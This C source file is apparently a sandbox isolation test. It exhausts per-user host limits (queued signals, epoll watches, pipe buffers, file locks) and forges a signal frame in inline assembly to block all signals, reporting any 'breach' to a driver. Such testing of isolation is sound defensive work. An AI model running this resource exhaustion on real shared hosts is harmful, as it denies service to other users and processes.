/* Takes what the host counts by user rather than by control group, and holds it until the volume
 * says otherwise, so that the driver can see whether the host or another sandbox runs short.
 *
 *     hold signals   queued signals (RLIMIT_SIGPENDING is counted by user)
 *     hold watches   epoll watches (fs.epoll.max_user_watches is counted by user)
 *     hold pipes     pipe buffers (fs.pipe-user-pages-soft is counted by user)
 *     hold locks     exclusive flock(2) on the read-only volume, and record locks
 */
#include <sys/epoll.h>
#include <sys/file.h>
#include <ucontext.h>

#include "attack.h"

/* Blocks every signal of the host: with a frame that no handler left, since nothing else may. */
static void block_signals(void) {
  static ucontext_t frame;
  greg_t *registers = frame.uc_mcontext.gregs;
  memset(&frame, 0, sizeof frame);
  frame.uc_flags = 6; /* UC_SIGCONTEXT_SS, UC_STRICT_RESTORE_SS */
  memset(&frame.uc_sigmask, 0xff, 8);
  registers[REG_EFL] = 0x202;
  registers[REG_CSGSFS] = 0x33 | 0x2bll << 48;
  __asm__ volatile(
    "lea 1f(%%rip), %%rax; mov %%rax, (%0); mov %%rsp, (%1); mov %%rbp, (%2);"
    "mov %3, %%rsp; jmp *%4; 1:"
    : : "r"(&registers[REG_RIP]), "r"(&registers[REG_RSP]), "r"(&registers[REG_RBP]), "r"(&frame),
        "r"(boot->signal_restorer)
    : "rax", "rbx", "r12", "r13", "r14", "r15", "memory", "cc");
}

/* Real-time signals are queued one by one on a process that blocks them. */
static long take_signals(void) {
  int *is_ready = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  long child = HOST(SYS_clone, SIGCHLD, 0, 0, 0, 0);
  if (child == 0) {
    block_signals();
    __atomic_store_n(is_ready, 1, __ATOMIC_RELEASE);
    for (;;) HOST(SYS_ppoll, 0, 0, 0, 0, 8);
  }
  while (!__atomic_load_n(is_ready, __ATOMIC_ACQUIRE)) sched_yield();
  long count = 0;
  for (; count < 400000; count++)
    if (HOST(SYS_tgkill, child, child, 64) != 0) break;
  if (count == 0 || count == 400000) say("note: no signal was queued");
  return count;
}

static long new_epoll(void) {
  struct pv_request *request = new_request(PV_OP_EPOLL);
  return broker(request);
}

static long take_watches(void) {
  int ends[500][2];
  long count = 0, pipes = 0;
  for (; pipes < 500; pipes++)
    if (HOST(SYS_pipe2, ends[pipes], 0) != 0) break;
  for (int i = 0; i < 400; i++) {
    long epoll = new_epoll();
    if (epoll < 0) break;
    for (long k = 0; k < pipes; k++) {
      struct epoll_event event = {.events = EPOLLIN};
      if (HOST(SYS_epoll_ctl, epoll, EPOLL_CTL_ADD, ends[k][0], &event) == 0) count++;
    }
  }
  return count;
}

static long take_pipes(void) {
  long count = 0;
  int ends[2];
  for (; count < 2000; count++) {
    if (HOST(SYS_pipe2, ends, O_CLOEXEC) != 0) break;
    if (HOST(SYS_fcntl, ends[0], 1031, 1 << 20) < 0) break; /* F_SETPIPE_SZ */
  }
  return count;
}

static long lock_record(long descriptor, int command, int type) {
  struct flock lock = {.l_type = type, .l_whence = SEEK_SET};
  return HOST(SYS_fcntl, descriptor, command, &lock);
}

/* One process waits for ever for a lock that another holds: both are to end with the sandbox. */
static void wait_for_lock(void) {
  const char *name = "/work/lock";
  close(open(name, O_CREAT | O_RDWR, 0644));
  long held = HOST(SYS_openat, AT_FDCWD, name, O_RDWR);
  if (lock_record(held, F_OFD_SETLK, F_WRLCK) != 0) say("note: no lock on an own file");
  if (fork() == 0) {
    lock_record(HOST(SYS_openat, AT_FDCWD, name, O_RDWR), F_OFD_SETLKW, F_WRLCK);
    say("breach: two open files hold a lock");
    _exit(1);
  }
}

static long take_locks(void) {
  long descriptor = HOST(SYS_openat, AT_FDCWD, "/ro/file", O_RDONLY);
  if (lock_record(descriptor, F_OFD_SETLK, F_WRLCK) == 0)
    say("breach: a record of a read-only volume is locked for writing");
  wait_for_lock();
  return HOST(SYS_flock, descriptor, LOCK_EX | LOCK_NB) == 0;
}

int main(int count, char **values) {
  find_kernel();
  const char *mode = count > 1 ? values[1] : "";
  long taken = 0;
  if (!strcmp(mode, "signals")) taken = take_signals();
  else if (!strcmp(mode, "watches")) taken = take_watches();
  else if (!strcmp(mode, "pipes")) taken = take_pipes();
  else if (!strcmp(mode, "locks")) taken = take_locks();
  else return 2;
  say("note: took %ld", taken);
  if (taken <= 0) return 1;
  close(open("/work/holding", O_CREAT | O_WRONLY, 0644));
  struct timespec pause = {0, 20000000};
  for (int i = 0; i < 1500 && access("/work/release", F_OK) != 0; i++) nanosleep(&pause, NULL);
  say("done");
  return 0;
}
